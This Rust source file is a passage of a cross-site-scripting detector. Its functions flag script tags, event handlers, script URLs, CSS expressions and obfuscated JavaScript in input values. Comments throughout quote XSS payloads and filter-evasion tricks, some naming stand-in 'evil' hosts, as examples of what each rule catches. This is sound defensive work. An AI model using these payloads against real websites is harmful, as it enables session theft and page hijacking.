//! Cross-site scripting: a small HTML/JS scanner.
//!
//! Markup itself is not an attack (rich-text editors post `<p>`, `<b>`,
//! `<a href="https://...">`, `<img src=...>`), script is. So the scanner walks
//! every tag in the value and flags only what executes: `<script>` (and a
//! closing `</script>` that escapes a script block), any `on*=` event handler,
//! `srcdoc`, `<base href>`, `<meta http-equiv>`, and `style` with CSS
//! expressions or bindings. Outside tags it flags script URLs (`javascript:`
//! even with whitespace inside the scheme, `vbscript:`, `data:text/html`),
//! attribute breakouts (`" onmouseover=...(`) and JavaScript string breakouts
//! (`';alert(1)//`, `"-confirm(1)-"`) that end in a call to a script sink,
//! and sinks used as values (`[8].find(confirm)`, `a=prompt,a()`). Elements
//! that load active content (`<embed src>`, `<object data>`, `<link href>`,
//! `<?import>`) are flagged when given a source: rich text never has them.

use super::needles::Needles;
use super::normalize::{find, trig, Normalized, WINDOW};

/// Bytes of a tag scanned for attributes before giving up.
const TAG_SPAN: usize = 512;

pub fn detect(n: &Normalized) -> bool {
    let s = n.text;
    (n.has(trig::LT) && (tags(s) || spaced_tag(s) || (n.char_refs && encoded_lt(s))))
        || (n.has(trig::QUOTE) && n.has(trig::LT | trig::EQ) && (locator(s) || quoted_url_attr(s)))
        || (n.has(trig::EQ) && handler_probe(s))
        || (n.has(trig::PAREN | trig::EQ) && dom_write(s))
        || (n.has(trig::BRACE) && (jsfuck(s) || global_index(s)))
        || (n.has(trig::PAREN) && (css_script_url(s) || new_function(s) || with_global(s)))
        || (n.has(trig::DOT) && dom_property_alone(s))
        || (n.has(trig::HASH_DASH) && utf7_tag(s))
        || (n.has(trig::COLON) && (script_url(s) || css(s)))
        || (n.has(trig::EQ) && loose_handler(s))
        || (n.has(trig::PAREN) && n.has(trig::QUOTE | trig::LT | trig::SEMI) && js_breakout(s))
        || (n.has(trig::PAREN | trig::QUOTE) && bare_sink_call(s))
        || (n.has(trig::PAREN | trig::EQ) && browser_call(s))
        // Gated, as every rule here, on bytes the prefilter knows open XSS.
        || (n.has(trig::PAREN | trig::QUOTE | trig::EQ | trig::BRACE) && sink_reference(s))
        || (n.has(trig::DOT) && !n.has(trig::PAREN | trig::QUOTE | trig::EQ) && bare_cookie(s))
}

/// A value that is nothing but `<` (or `<>`) written as a character
/// reference or escape (`&#x0003c`, `&lt`, `\x3c`): the probe of which
/// encodings of `<` a filter decodes. `<` typed as itself or percent-encoded
/// (a comparison operator in a filter) is not flagged.
fn encoded_lt(s: &[u8]) -> bool {
    // A path is `/` and the value.
    let s = s.strip_prefix(b"/").unwrap_or(s);
    s.contains(&b'<') && s.iter().all(|&b| matches!(b, b'<' | b'>' | b' '))
}

/// The XSS locator (`'';!--"<XSS>=&{()}`): a quote closing a JavaScript
/// string, `;` ending the statement, then a tag, with nothing but
/// punctuation between; "it's; <b>" has a letter in between.
fn locator(s: &[u8]) -> bool {
    let Some(q) = s.iter().position(|&b| b == b'\'' || b == b'"') else {
        return false;
    };
    let mut semi = false;
    for k in q + 1..s.len().min(q + 24) {
        match s[k] {
            b';' => semi = true,
            b'<' => return semi && s.get(k + 1).is_some_and(u8::is_ascii_alphabetic),
            b'\'' | b'"' | b'!' | b'-' | b'/' | b'>' | b' ' | b')' => {}
            _ => return false,
        }
    }
    false
}

/// After a quote (an attribute broken out of), an attribute that runs or
/// loads script by itself, with any value or none: `'formaction=`,
/// `" srcdoc=`.
fn quoted_url_attr(s: &[u8]) -> bool {
    let Some(q) = s.iter().position(|&b| b == b'\'' || b == b'"') else {
        return false;
    };
    [b"formaction" as &[u8], b"srcdoc"].iter().any(|name| {
        let mut from = q + 1;
        while let Some(p) = s.get(from..).and_then(|t| find(t, name)) {
            let at = from + p;
            from = at + 1;
            if !matches!(s[at - 1], b' ' | b'/' | b'"' | b'\'' | b'\n' | b'+') {
                continue;
            }
            if s[at + name.len()..].trim_ascii_start().starts_with(b"=") {
                return true;
            }
        }
        false
    })
}

/// A field that is only a known event handler and `=` (`onload=`,
/// ` onwebkitplaybacktargetavailabilitychanged= `, also as an argument
/// name): the probe of whether a handler gets through.
fn handler_probe(s: &[u8]) -> bool {
    let Some(rest) = s.strip_prefix(b"on") else {
        return false;
    };
    let n = rest.iter().take_while(|b| b.is_ascii_lowercase()).count();
    HANDLERS.binary_search(&&rest[..n]).is_ok()
        && rest[n..].trim_ascii().iter().all(|&b| b == b'=')
        && rest[n..].contains(&b'=')
}

/// `<f o r m`, `<s c r i p t>`, `< x: script`: an element that runs or
/// submits written with its letters spread out, for back ends that strip
/// whitespace (or namespace it with spaces around the prefix); nobody types
/// a tag so.
fn spaced_tag(s: &[u8]) -> bool {
    const NAMES: &[&[u8]] = &[
        b"script", b"form", b"iframe", b"frame", b"object", b"embed", b"applet", b"svg", b"style",
        b"meta", b"base", b"link", b"body", b"input", b"button", b"isindex",
    ];
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'<', &s[from..]) {
        let lt = from + p;
        from = lt + 1;
        let mut j = lt + 1;
        let gap = s.get(j) == Some(&b' ');
        j += usize::from(gap);
        // An optional `prefix:` and a space.
        let mut prefixed = false;
        let w = s[j..]
            .iter()
            .take(16)
            .take_while(|b| b.is_ascii_alphanumeric())
            .count();
        if w > 0 && s.get(j + w) == Some(&b':') {
            j += w + 1;
            prefixed = true;
            if s.get(j) == Some(&b' ') {
                j += 1;
            }
        }
        let Some(&first) = s.get(j) else {
            continue;
        };
        for name in NAMES.iter().filter(|n| n[0] == first) {
            let Some(e) = spaced_match(s, j, name) else {
                continue;
            };
            let spread = e - j > name.len();
            let ends = matches!(s.get(e), None | Some(b' ' | b'>' | b'/' | b'\n'));
            if ends && (spread || (prefixed && (gap || s[j - 1] == b' '))) {
                return true;
            }
        }
    }
    false
}

/// Script that writes markup into the page: `document.write(`,
/// `document.createElement(`, `.innerHTML =`, `.insertAdjacentHTML(`.
/// Only script does this; prose names the APIs without calling them.
fn dom_write(s: &[u8]) -> bool {
    DOM_WRITES.any_match(s, |needle, at| {
        let rest = s[at + needle.len()..].trim_ascii_start();
        match needle {
            b".innerhtml" | b".outerhtml" => rest.starts_with(b"=") && !rest.starts_with(b"=="),
            // `appendChild(createElement('script')).src=..`, reached through
            // `with(document)`: the element that loads a script.
            b"createelement" => rest.strip_prefix(b"(").is_some_and(|a| {
                let a = a.trim_ascii_start();
                let a = a
                    .strip_prefix(b"'")
                    .or_else(|| a.strip_prefix(b"\""))
                    .unwrap_or(a);
                a.starts_with(b"script") || a.starts_with(b"iframe")
            }),
            _ => rest.starts_with(b"(") || rest.starts_with(b"`"),
        }
    })
}

const DOM_WRITES: Needles = Needles::new(&[
    b"document.write",
    b"document.writeln",
    b"document.createelement",
    b".innerhtml",
    b".outerhtml",
    b".insertadjacenthtml",
    b"createelement",
]);

/// A value made only of JSFuck's alphabet (`[]()!+`, `+` read as a space
/// from a form), with its atoms `![]` or `+[]`: code with no letters.
fn jsfuck(s: &[u8]) -> bool {
    s.len() >= 8
        && s.iter()
            .all(|b| matches!(b, b'[' | b']' | b'(' | b')' | b'!' | b'+' | b' '))
        && (find(s, b"![]").is_some() || find(s, b"+[]").is_some() || find(s, b"! []").is_some())
}

/// A property of the global object fetched by a computed name:
/// `self["\x24"]`, `top['al'+'ert']`, `window[ "x" ]`: how payloads reach a
/// sink without writing its name.
fn global_index(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'[', &s[from..]) {
        let at = from + p;
        from = at + 1;
        let word_start = s[..at]
            .iter()
            .rposition(|b| !b.is_ascii_alphanumeric())
            .map_or(0, |k| k + 1);
        if !matches!(
            &s[word_start..at],
            b"self" | b"top" | b"window" | b"parent" | b"frames" | b"globalthis" | b"opener"
        ) || (word_start > 0 && matches!(s[word_start - 1], b'.' | b'_' | b'$'))
        {
            continue;
        }
        if matches!(
            s[at + 1..].trim_ascii_start().first(),
            Some(b'"' | b'\'' | b'`')
        ) {
            return true;
        }
        // `top[/al/.source+/ert/.source](1)`, `self[atob("..")](1)`,
        // `top[8680439..toString(30)](1)`: a name computed by an expression
        // (not only a quoted one) and called at once. A Markdown link glued
        // to the word (`top[the docs](url)`) holds words and spaces only.
        if let Some(close) = memchr::memchr(b']', &s[at + 1..s.len().min(at + 257)]) {
            let inner = &s[at + 1..at + 1 + close];
            let called = matches!(s.get(at + 2 + close), Some(b'(' | b'`'));
            if called
                && inner
                    .iter()
                    .any(|b| matches!(b, b'+' | b'(' | b'/' | b'.' | b'[' | b'\\'))
            {
                return true;
            }
        }
    }
    false
}

/// `with(document)alert(1)`, `with(location)with(hash)eval(..)`: the
/// global object's parts brought into scope so that the sink after them is
/// named without its object. Only script says `with(document)`.
fn with_global(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"with(")) {
        let at = from + p;
        from = at + 5;
        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_') {
            continue;
        }
        let arg = &s[from..];
        let arg = arg.trim_ascii_start();
        if [
            b"document" as &[u8],
            b"location",
            b"window",
            b"self",
            b"top",
            b"parent",
            b"frames",
            b"globalthis",
            b"content",
        ]
        .iter()
        .filter_map(|w| arg.strip_prefix(*w))
        .any(|r| {
            // `.__parent__`, `.body`: a property path, then `)` and the
            // statement glued to it (`)alert(1)`, `){..}`); prose puts a
            // space after the parenthesis.
            let path = r
                .iter()
                .take(64)
                .take_while(|&&b| b == b'.' || b == b'_' || b.is_ascii_alphanumeric())
                .count();
            r[path..].strip_prefix(b")").is_some_and(|t| {
                t.first()
                    .is_some_and(|&b| b.is_ascii_alphabetic() || matches!(b, b'_' | b'$' | b'{'))
            })
        }) {
            return true;
        }
    }
    false
}

/// `url(javascript:..)`, `url( 'vbscript` in CSS, with or without the
/// scheme's colon (cut-off payloads).
fn css_script_url(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"url(")) {
        let at = from + p + 4;
        from = at;
        let mut j = at;
        while matches!(s.get(j), Some(b' ' | b'"' | b'\'')) {
            j += 1;
        }
        if spaced_match(s, j, b"javascript").is_some() || spaced_match(s, j, b"vbscript").is_some()
        {
            return true;
        }
    }
    false
}

/// `new Function(..)` opening the value: eval under another name.
fn new_function(s: &[u8]) -> bool {
    let t = s.trim_ascii_start();
    let t = t.strip_prefix(b"(").unwrap_or(t);
    t.strip_prefix(b"new function")
        .is_some_and(|r| r.trim_ascii_start().starts_with(b"("))
}

/// A field that is only a reference to the page's cookie, domain or
/// location (`document.cookie`, `window.location`, also as an argument or
/// cookie name): the probe of whether the name gets through. A sentence
/// about the API has other words.
fn dom_property_alone(s: &[u8]) -> bool {
    matches!(
        s.trim_ascii(),
        b"document.cookie"
            | b"document.domain"
            | b"document.location"
            | b"window.location"
            | b"document.location.href"
            | b"window.location.href"
    )
}

/// `document /**/ . cookie` with nothing around it (the forms with a call,
/// quote or `=` are [`sink_reference`]'s).
fn bare_cookie(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"document")) {
        let at = from + p;
        if cookie_access(s, at) {
            return true;
        }
        from = at + 8;
    }
    false
}

/// `]onerror=` in a tag whose name runs into `[..]` placeholders
/// (`<img[a]src[b]=x[c]onerror=[d]alert(1)>`): once a back end strips
/// them, a known handler is left.
fn bracketed_handler(attrs: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = attrs.get(from..).and_then(|t| find(t, b"]on")) {
        let at = from + p + 3;
        from = at;
        let n = attrs[at..]
            .iter()
            .take(48)
            .take_while(|b| b.is_ascii_lowercase())
            .count();
        if attrs.get(at + n) == Some(&b'=') && HANDLERS.binary_search(&&attrs[at..at + n]).is_ok() {
            return true;
        }
    }
    false
}

/// A URL in a tag whose host is an IPv4 address in a notation nobody
/// writes by hand (`http://0102.0146.0007.00000223/` octal,
/// `http://1113982867/` one number, `http://0x42.0x66.0x7.0x93/` hex):
/// links and sources disguised from filters that match addresses and
/// from the reader; dotted decimal (`http://66.102.7.147/`) is not.
fn obfuscated_host(attrs: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = attrs.get(from..).and_then(|t| find(t, b"://")) {
        let at = from + p + 3;
        from = at;
        let host = &attrs[at..];
        let len = host
            .iter()
            .take(40)
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'.')
            .count();
        let host = &host[..len];
        if host.is_empty() || !host[0].is_ascii_digit() {
            continue;
        }
        let parts = host.split(|&b| b == b'.').filter(|p| !p.is_empty());
        let (mut n, mut odd) = (0, false);
        let mut numeric = true;
        for part in parts {
            n += 1;
            let hex = part.starts_with(b"0x");
            let digits = if hex { &part[2..] } else { part };
            numeric &= if hex {
                digits.iter().all(u8::is_ascii_hexdigit)
            } else {
                digits.iter().all(u8::is_ascii_digit)
            };
            // Hex, or a leading zero (octal), or more than three digits.
            odd |= hex || (part.len() > 1 && part[0] == b'0') || part.len() > 3;
        }
        if numeric && n <= 4 && (odd || n == 1 && len >= 8) {
            return true;
        }
    }
    false
}

/// A value that is a call of a browser function or an assignment to the
/// page's location, as injected into a script context: `atob(..)`,
/// `btoa()`, `fetch(..)`, `import(..)`, `setTimeout(code, 1)`,
/// `navigator.vibrate(500)`, `window.open(..)`,
/// `location.href='//evil'` (a string or URL assigned). A parameter holds such a value only as
/// script; code in comment fields comes with other text around it (a
/// sentence or a Markdown fence: "use setTimeout(fn, 100) to wait").
/// `console.log(..)` is left out: it runs nothing, and code samples in
/// API fields open with it (a held-back benign request of the Twilio
/// specs did).
fn browser_call(s: &[u8]) -> bool {
    let mut i = 0;
    while matches!(s.get(i), Some(b'(' | b' ' | b';' | b'{')) {
        i += 1;
    }
    let rest = &s[i..];
    const CALLS: &[&[u8]] = &[
        b"atob",
        b"btoa",
        b"fetch",
        b"import",
        b"settimeout",
        b"setinterval",
        b"window.open",
        b"location.assign",
        b"location.replace",
        b"document.location.assign",
        b"document.location.replace",
        b"window.location.assign",
        b"window.location.replace",
    ];
    if CALLS.iter().any(|c| {
        rest.strip_prefix(*c)
            .is_some_and(|r| r.starts_with(b"(") || r.starts_with(b"?.(") || r.starts_with(b"`"))
    }) {
        return true;
    }
    // `navigator.vibrate(500)`, `navigator.sendBeacon(..)`: the browser's
    // own object, called.
    if let Some(r) = rest.strip_prefix(b"navigator.") {
        let n = r
            .iter()
            .take(32)
            .take_while(|b| b.is_ascii_alphanumeric())
            .count();
        if n > 0 && r.get(n) == Some(&b'(') {
            return true;
        }
    }
    // `location='//evil'`, `document.location.href = "javascript:.."`.
    let target = [
        b"document.location.href" as &[u8],
        b"window.location.href",
        b"top.location.href",
        b"location.href",
        b"document.location",
        b"window.location",
        b"top.location",
        b"self.location",
        b"location",
    ]
    .iter()
    .find_map(|t| rest.strip_prefix(*t));
    // The right side a string or URL: `location=berlin` is a filter.
    target.is_some_and(|r| {
        let r = r.trim_ascii_start();
        r.strip_prefix(b"=").is_some_and(|v| {
            let v = v.trim_ascii_start();
            matches!(v.first(), Some(b'"' | b'\'' | b'`'))
                || v.starts_with(b"//")
                || v.starts_with(b"http")
                || v.starts_with(b"javascript:")
        })
    })
}

fn is_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'-' || b == b':' || b == b'_'
}

/// Every `<tag ...` in the value.
fn tags(s: &[u8]) -> bool {
    let mut i = 0;
    // Inside `<math>`: MathML makes any element a link (`<math><a
    // xlink:href=..>`, `<maction href=..>`), which no rich text emits.
    let mut math = false;
    while let Some(p) = s.get(i..).and_then(|t| t.iter().position(|&b| b == b'<')) {
        let lt = i + p;
        i = lt + 1;
        let closing = s.get(i) == Some(&b'/');
        // `<?import implementation=..>`, `<?xml-stylesheet href=..>`: IE and
        // XML read these as elements.
        let pi = s.get(i) == Some(&b'?');
        let name_start = if closing || pi { i + 1 } else { i };
        let mut j = name_start;
        while j < s.len() && is_name(s[j]) {
            j += 1;
        }
        let name = &s[name_start..j];
        if name.is_empty() || !name[0].is_ascii_alphabetic() {
            continue;
        }
        // `<importimplementation=..>`: IE reads the attribute glued to the name.
        if !closing
            && name.starts_with(b"import")
            && find(
                &s[name_start..s.len().min(name_start + TAG_SPAN)],
                b"implementation",
            )
            .is_some()
        {
            return true;
        }
        // `<?xml:namespace prefix=t ns=..>`: IE's import of an element
        // behaviour (HTML+TIME), the first half of `<t:set attributename=..>`.
        if name == b"xml:namespace" {
            let tag = &s[j..s.len().min(j + TAG_SPAN)];
            if attr_value(tag, b"ns").is_some() || attr_value(tag, b"prefix").is_some() {
                return true;
            }
        }
        let after = s.get(j).copied();
        // Browsers end a tag name at whitespace (CR, LF, tab: `\n` here), `/`
        // and `>`; `+` reaches them as a space from forms and some decoders.
        // `<img=x onerror=..>`, `` <img`x` ``: junk glued to the name still
        // leaves the attributes after it.
        // `<img[a][b]src[c]=x onerror=..>`: placeholders a back end strips
        // (or a filter does not parse) between the name and its attributes.
        let ends = matches!(
            after,
            None | Some(b'>' | b' ' | b'/' | b'\n' | b'+' | b'=' | b'`' | b'[')
        );
        // `<x:script xmlns:x=..>`: a namespace prefix does not change the element.
        let local = name.rsplit(|&b| b == b':').next().unwrap_or(name);
        if local == b"script" && ends {
            return true;
        }
        if closing || !ends {
            continue;
        }
        let end = s
            .get(j..)
            .and_then(|t| t.iter().position(|&b| b == b'>' || b == b'<'))
            .map_or(s.len(), |e| j + e);
        let attrs = &s[j..end.min(j + TAG_SPAN)];
        if dangerous_attrs(local, attrs) || active_tag(local, attrs, &s[j..]) {
            return true;
        }
        if after == Some(b'[') && bracketed_handler(attrs) {
            return true;
        }
        math |= local == b"math";
        if math
            && (attr_value(attrs, b"href").is_some() || attr_value(attrs, b"xlink:href").is_some())
        {
            return true;
        }
        if obfuscated_host(attrs) {
            return true;
        }
        // `<iframe src=//evil/x.html <`: a frame left half open, closed by
        // the next tag's `<`, the trick that slips past filters matching
        // whole tags; editors never emit it.
        if matches!(local, b"iframe" | b"frame")
            && s.get(end) == Some(&b'<')
            && attr_value(attrs, b"src").is_some_and(|v| !v.is_empty())
        {
            return true;
        }
    }
    false
}

/// Elements that load or run active content whatever their attributes
/// say, when given a source (`<embed src=..>`, `<object data=..>`,
/// `<applet code=..>`, IE's `<xml src=..>` data islands, `<import
/// implementation=..>`, VML frames), style sheets pulled in by `<link
/// href=..>` or `@import`, and frames on script-capable schemes. Rich text
/// has none of them; `List<Object>` in a code sample has no attribute.
fn active_tag(tag: &[u8], attrs: &[u8], rest: &[u8]) -> bool {
    let has = |a: &[u8]| attr_value(attrs, a).is_some();
    match tag {
        b"embed" | b"object" | b"applet" => {
            [b"src" as &[u8], b"data", b"code", b"classid", b"type"]
                .iter()
                .any(|a| attr_value(attrs, a).is_some_and(|v| !v.is_empty()))
        }
        b"xml" => has(b"src") || has(b"id"),
        b"import" => has(b"implementation"),
        b"xml-stylesheet" => has(b"href"),
        b"vmlframe" | b"v:vmlframe" => true,
        b"link" => has(b"href"),
        b"iframe" | b"frame" => attr_value(attrs, b"src").is_some_and(|v| {
            let v = v.trim_ascii_start();
            [b"mhtml:" as &[u8], b"view-source:", b"data:", b"jar:"]
                .iter()
                .any(|p| v.starts_with(p))
        }),
        b"style" => {
            let body = &rest[..rest.len().min(TAG_SPAN)];
            css_view(body, |t, changed| {
                find(t, b"@import").is_some() || css_plain(t) || (changed && script_url(t))
            })
        }
        // A form that posts elsewhere (credentials phished from the page).
        b"form" => attr_value(attrs, b"action").is_some_and(|v| {
            let v = v.trim_ascii_start();
            v.starts_with(b"http") || v.starts_with(b"//") || v.starts_with(b"ftp")
        }),
        // SVG `<use>` of a document in a data URL runs its script (old
        // engines); sprites use a fragment or a file.
        b"use" => [b"href" as &[u8], b"xlink:href"].iter().any(|a| {
            attr_value(attrs, a).is_some_and(|v| v.trim_ascii_start().starts_with(b"data:"))
        }),
        // Netscape layers load a document into the page.
        b"layer" | b"ilayer" => has(b"src"),
        // `<meta charset="utf-7">` turns `+ADw-script+AD4-` into a tag.
        b"meta" => attr_value(attrs, b"charset")
            .is_some_and(|v| find(v, b"utf-7").is_some() || find(v, b"utf7").is_some()),
        // SVG animation that rewrites a handler or a link (`<set
        // attributename="onmouseover" to="alert(1)">`).
        b"set" | b"animate" | b"animatetransform" | b"animatemotion" => {
            attr_value(attrs, b"attributename").is_some_and(|v| {
                let v = v.trim_ascii_start();
                v.starts_with(b"on") || v.ends_with(b"href")
            })
        }
        _ => false,
    }
}

/// The value of attribute `name` in a tag's attribute bytes (unquoted).
fn attr_value<'a>(attrs: &'a [u8], name: &[u8]) -> Option<&'a [u8]> {
    let mut from = 0;
    while let Some(p) = attrs.get(from..).and_then(|t| find(t, name)) {
        let at = from + p;
        from = at + 1;
        let before = attrs.get(at.wrapping_sub(1)).copied();
        if at > 0 && !matches!(before, Some(b' ' | b'\n' | b'/' | b'"' | b'\'' | b'+')) {
            continue;
        }
        let mut v = at + name.len();
        while matches!(attrs.get(v), Some(b' ' | b'\n' | b'/' | b'+')) {
            v += 1;
        }
        if attrs.get(v) != Some(&b'=') {
            continue;
        }
        let end = value_end(attrs, v + 1);
        let raw = attrs.get(v + 1..end).unwrap_or(&[]).trim_ascii_start();
        let raw = raw
            .strip_prefix(b"\"")
            .or_else(|| raw.strip_prefix(b"'"))
            .unwrap_or(raw);
        let raw = raw
            .strip_suffix(b"\"")
            .or_else(|| raw.strip_suffix(b"'"))
            .unwrap_or(raw);
        return Some(raw);
    }
    None
}

/// Attributes of one tag: names start after a space, `/` or a closing quote.
fn dangerous_attrs(tag: &[u8], attrs: &[u8]) -> bool {
    let mut k = 0;
    while k < attrs.len() {
        let b = attrs[k];
        // Bytes that start no name and no `=value` (`[`, `]`, `(`...) are
        // stepped over here: the full attribute reading below cost about
        // sixty instructions a byte on `<img[a]]on]onx=` runs.
        if b != b'=' && !is_name(b) {
            k += 1;
            continue;
        }
        let start = k;
        while k < attrs.len() && is_name(attrs[k]) {
            k += 1;
        }
        let name = &attrs[start..k];
        let mut v = k;
        // `onerror/=`, `href / =`: a slash between name and `=` is dropped;
        // `onmouseover+=+confirm()`: a `+` there is the space of a form or a
        // decoder that reads `+` as one, as after the tag name (XSStrike
        // sends it so, percent-encoded).
        while matches!(attrs.get(v), Some(b' ' | b'\n' | b'/' | b'+')) {
            v += 1;
        }
        let has_value = attrs.get(v) == Some(&b'=');
        // `x:ontimer=`, `xlink:onload=`: a prefix does not change the handler.
        let local = name.rsplit(|&b| b == b':').next().unwrap_or(name);
        if local.len() > 4 && local.starts_with(b"on") && has_value {
            return true;
        }
        let value_end = if has_value {
            value_end(attrs, v + 1)
        } else {
            v
        };
        let value = attrs.get(v + 1..value_end).unwrap_or(&[]);
        // XML Events (`<listener event="load" handler="#y">`, `ev:handler=`)
        // run the script element the handler names.
        if local == b"handler" && has_value && find(attrs, b"event").is_some() {
            return true;
        }
        match name {
            b"srcdoc" if has_value => return true,
            // IE data binding renders a data island's markup as HTML.
            b"datasrc" | b"dataformatas" if has_value => return true,
            b"href" if tag == b"base" && has_value => return true,
            // `refresh` redirects (to `javascript:` or `data:` too),
            // `set-cookie` writes a cookie, `link` pulls in a style sheet,
            // a UTF-7 charset turns `+ADw-` into tags; `Content-Type` with
            // a real charset and `X-UA-Compatible` are every email
            // template's.
            b"http-equiv"
                if tag == b"meta"
                    && has_value
                    && ([b"refresh" as &[u8], b"set-cookie", b"link"]
                        .iter()
                        .any(|p| unquote(value).trim_ascii().starts_with(p))
                        || find(attrs, b"utf-7").is_some()
                        || find(attrs, b"utf7").is_some()) =>
            {
                return true
            }
            // In a style attribute `expression(` runs wherever it stands
            // (IE's parser recovers from `xexpression(`).
            b"style"
                if has_value
                    && css_view(unquote(value), |t, changed| {
                        css_plain(t)
                            || find(t, b"expression(").is_some()
                            || (changed && script_url(t))
                    }) =>
            {
                return true
            }
            _ => {}
        }
        k = if has_value {
            value_end.max(k + 1)
        } else {
            k.max(start + 1)
        };
    }
    false
}

/// An attribute value without the quotes around it.
fn unquote(v: &[u8]) -> &[u8] {
    let v = v.trim_ascii();
    match v.first() {
        Some(&q @ (b'"' | b'\'')) => {
            let v = &v[1..];
            v.strip_suffix(&[q]).unwrap_or(v)
        }
        _ => v,
    }
}

/// End of an attribute value starting at `i` (quoted or bare).
fn value_end(a: &[u8], mut i: usize) -> usize {
    while a.get(i) == Some(&b' ') {
        i += 1;
    }
    match a.get(i) {
        Some(&q @ (b'"' | b'\'')) => a
            .get(i + 1..)
            .and_then(|t| t.iter().position(|&b| b == q))
            .map_or(a.len(), |e| i + 2 + e),
        _ => a
            .get(i..)
            .and_then(|t| t.iter().position(|&b| b == b' ' || b == b'\n'))
            .map_or(a.len(), |e| i + e),
    }
}

/// Matches `word` at `s[i..]` allowing whitespace between its letters, as
/// browsers strip tabs and newlines inside URL schemes; returns the end.
fn spaced_match(s: &[u8], i: usize, word: &[u8]) -> Option<usize> {
    let mut j = i;
    for (n, &c) in word.iter().enumerate() {
        if n > 0 {
            while matches!(s.get(j), Some(b' ' | b'\n')) {
                j += 1;
            }
        }
        if s.get(j) != Some(&c) {
            return None;
        }
        j += 1;
    }
    Some(j)
}

/// `javascript:alert(1)`, `vbscript:msgbox`, `data:text/html,...`.
fn script_url(s: &[u8]) -> bool {
    for (i, &b) in s.iter().enumerate() {
        let scheme_end = match b {
            b'j' => spaced_match(s, i, b"javascript"),
            b'v' => spaced_match(s, i, b"vbscript"),
            b'l' => spaced_match(s, i, b"livescript"),
            b'd' => {
                let rest = &s[i..];
                const DATA: &[&[u8]] = &[
                    b"data:text/html",
                    b"data:text/javascript",
                    b"data:application/javascript",
                    b"data:application/x-javascript",
                    b"data:application/xhtml",
                    b"data:text/xml",
                ];
                if DATA.iter().any(|d| rest.starts_with(d)) {
                    return true;
                }
                // `data:,<x>`: no media type, markup in the data (every
                // image or SVG data URL names its type).
                if let Some(d) = rest.strip_prefix(b"data:") {
                    let d = d.trim_ascii_start();
                    if let Some(d) = d.strip_prefix(b",") {
                        let d = d.trim_ascii_start();
                        if d.first() == Some(&b'<') && d.get(1).is_some_and(u8::is_ascii_alphabetic)
                        {
                            return true;
                        }
                    }
                }
                None
            }
            _ => None,
        };
        let Some(mut j) = scheme_end else { continue };
        // `java\tscript:`, `j&Tab;a&Tab;v..`: whitespace inside the scheme is
        // an obfuscation nobody types; `javascript: the good parts` has none.
        let spread = j - i
            > if b == b'j' {
                10
            } else {
                b"vbscript".len() + usize::from(b == b'l') * 2
            };
        while matches!(s.get(j), Some(b' ' | b'\n')) {
            j += 1;
        }
        if s.get(j) != Some(&b':') {
            continue;
        }
        if spread {
            return true;
        }
        // A URL value (`href=javascript:..`, a field that is the URL): the
        // browser runs whatever follows; a book title has a space first.
        let before = s[..i]
            .iter()
            .rev()
            .find(|&&c| !matches!(c, b' ' | b'"' | b'\''));
        if matches!(before, None | Some(b'='))
            && s.get(j + 1).is_some_and(|c| !matches!(c, b' ' | b'\n'))
        {
            return true;
        }
        // The body must do something: a call, a template call or an
        // assignment ("javascript: the good parts" is a book title).
        let body = &s[j + 1..s.len().min(j + 1 + 256)];
        if calls(body) || body.contains(&b'=') {
            return true;
        }
    }
    false
}

/// `name(` or `` name` `` with no space between: how script calls look.
fn calls(body: &[u8]) -> bool {
    body.windows(2).any(|w| {
        (w[0].is_ascii_alphanumeric() || w[0] == b'_' || w[0] == b']' || w[0] == b')')
            && (w[1] == b'(' || w[1] == b'`')
    })
}

/// CSS that executes: `expression(`, `-moz-binding`, `behavior:url(`;
/// also written with CSS escapes (`\0065xpression(`, `exp\ression(`),
/// which the CSS parser undoes before it reads the name.
fn css(s: &[u8]) -> bool {
    css_view(s, |t, _| css_plain(t))
}

/// Runs `f` on CSS text as the CSS parser reads it: escapes undone and
/// comments removed (`ex/**/pression(`), when there are any; `f` is told
/// whether the view differs from the field (so a script URL in it was
/// hidden: `url(\6a\61vascript:..)`).
fn css_view(s: &[u8], f: impl Fn(&[u8], bool) -> bool) -> bool {
    if memchr::memchr(b'\\', s).is_none() && find(s, b"/*").is_none() {
        return f(s, false);
    }
    // A style attribute is short: a small buffer to clear, not a window
    // per attribute (`<a style='\65/**/` repeated).
    if s.len() <= 256 {
        let mut buf = [0u8; 256];
        let n = css_unescape(s, &mut buf);
        return f(&buf[..n], true);
    }
    let mut buf = [0u8; WINDOW];
    let n = css_unescape(s, &mut buf);
    f(&buf[..n], true)
}

/// Undoes CSS escapes into `out` (never longer than `s`, capped at its
/// size): `\` + 1-6 hex digits + one optional space is that code point
/// (kept only when ASCII, lowercased), `\` + any other byte is the byte;
/// `/* ... */` comments are dropped.
fn css_unescape(s: &[u8], out: &mut [u8]) -> usize {
    let (mut r, mut w) = (0, 0);
    let mut no_end = false;
    // Inside a CSS string `/*` is text (`"*//*"` in the classic
    // `no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(..)`).
    let mut quote = None;
    while r < s.len() && w < out.len() {
        let b = s[r];
        r += 1;
        if matches!(b, b'"' | b'\'') {
            quote = match quote {
                None => Some(b),
                Some(q) if q == b => None,
                q => q,
            };
        }
        if b == b'/' && quote.is_none() && s.get(r) == Some(&b'*') && !no_end {
            // Once no `*/` follows one opener, none follows a later one.
            match find(&s[r + 1..], b"*/") {
                Some(e) => {
                    r += 1 + e + 2;
                    continue;
                }
                None => no_end = true,
            }
        }
        if b != b'\\' || r == s.len() {
            out[w] = b;
            w += 1;
            continue;
        }
        let digits = s[r..]
            .iter()
            .take(6)
            .take_while(|d| d.is_ascii_hexdigit())
            .count();
        if digits == 0 {
            out[w] = s[r];
            w += 1;
            r += 1;
            continue;
        }
        let cp = s[r..r + digits].iter().fold(0u32, |v, &d| {
            v * 16 + char::from(d).to_digit(16).unwrap_or(0)
        });
        r += digits;
        if s.get(r) == Some(&b' ') {
            r += 1;
        }
